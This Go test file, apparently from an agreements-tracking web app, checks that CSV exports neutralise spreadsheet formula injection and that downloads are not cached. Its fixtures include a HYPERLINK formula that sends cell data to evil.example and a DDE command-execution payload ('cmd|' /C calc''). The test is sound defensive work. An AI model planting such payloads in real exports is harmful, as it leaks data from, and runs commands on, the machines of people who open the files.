package web

import (
	"context"
	"encoding/csv"
	"net/http"
	"strconv"
	"strings"
	"testing"

	"pactum/internal/agreement"
	"pactum/internal/civil"
	"pactum/internal/partner"
	"pactum/internal/store/storetest"
	"pactum/internal/user"
)

// formulaName is a partner name that, written unchanged into a CSV file, runs as a formula in the
// spreadsheet of whoever opens it and sends the next cell to another site.
const formulaName = `=HYPERLINK("http://evil.example/?d="&A2,"Open")`

// No CSV file Pactum writes starts a cell with a formula: a partner named as a formula, an
// initiative "@SUM(A1:A9)" and a title starting with "-" or "+" are written as text, and
// amounts, negative ones too, stay numbers.
func TestCSVExportsWriteNoFormulas(t *testing.T) {
	app := newTestApp(t, storetest.OpenSQLite(t))
	ctx := context.Background()
	p := &partner.Partner{Key: "formula-fund", Type: "foundation", Membership: "none", Status: partner.StatusActive,
		Texts: map[string]partner.Text{"en": {Name: formulaName, Acronym: "+FF"}}}
	if err := app.db.CreatePartners(ctx, []*partner.Partner{p}); err != nil {
		t.Fatal(err)
	}
	a := &agreement.Agreement{Reference: "PCT-2016-0900", Titles: map[string]string{"en": "-2+3+cmd|' /C calc'!A0"}, Type: "voluntary_contribution",
		Status: agreement.StatusSigned, SignedOn: civil.MustParse("2016-03-01"), Amount: 250_000, Currency: "USD", ValueUSD: 250_000,
		PrimaryActionArea: "generic", Regions: agreement.EqualShares("AFR"), Initiative: "@SUM(A1:A9)",
		Parties: []agreement.Party{{PartnerID: p.ID, Role: agreement.RoleFunder}}, Office: "HQ"}
	if err := app.db.CreateAgreements(ctx, []*agreement.Agreement{a}); err != nil {
		t.Fatal(err)
	}
	admin := app.sessionClient(user.RoleAdmin)
	for path, text := range map[string]string{
		"/partners/export.csv":   "'" + formulaName,
		"/agreements/export.csv": "'@SUM(A1:A9)",
		"/insights/export?panel=top_partners&format=csv&from=2016&to=2016": "'" + formulaName,
	} {
		resp, body := app.get(admin, path)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("GET %s: %d", path, resp.StatusCode)
		}
		records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\uFEFF"))).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		sawText := false
		for _, record := range records {
			for _, cell := range record {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					if _, err := strconv.ParseFloat(cell, 64); err != nil {
						t.Errorf("%s: the cell %q starts a formula", path, cell)
					}
				}
				sawText = sawText || cell == text
			}
		}
		if !sawText {
			t.Errorf("%s does not hold %q", path, text)
		}
	}
	// The exports import again unchanged: the apostrophes are taken off.
	for export, importPage := range map[string]string{"/partners/export.csv": "/partners/import", "/agreements/export.csv": "/agreements/import"} {
		_, exported := app.get(admin, export)
		resp, body := app.upload(admin, importPage, nil, "file", "export.csv", []byte(exported))
		if resp.StatusCode != http.StatusOK || !strings.Contains(body, "there is nothing to import") {
			t.Errorf("%s imported again: %d\n%s", export, resp.StatusCode, body)
		}
	}
}

// Every file Pactum sends to download (exports, templates, the status analysis) is kept by no
// cache: it holds what its reader may see. The route table is walked, so a new download cannot
// forget it.
func TestDownloadsAreNotCached(t *testing.T) {
	app := newTestApp(t, demoData.OpenSQLite(t))
	admin := app.sessionClient(user.RoleAdmin)
	queries := map[string]string{"/insights/export": "?panel=years&format=csv&from=2014&to=2017"}
	downloads := 0
	for _, rt := range app.server.routes {
		path, ok := strings.CutPrefix(rt.pattern, "GET ")
		if !ok || strings.Contains(path, "{") || strings.HasSuffix(path, "/") {
			continue
		}
		resp, _ := app.get(admin, path+queries[path])
		if !strings.HasPrefix(resp.Header.Get("Content-Disposition"), "attachment") {
			continue
		}
		downloads++
		if cc := resp.Header.Get("Cache-Control"); !strings.Contains(cc, "no-store") {
			t.Errorf("GET %s sends a file with Cache-Control %q, want no-store", path, cc)
		}
	}
	if downloads < 11 {
		t.Errorf("only %d routes sent a file to download; the walk missed some", downloads)
	}
}
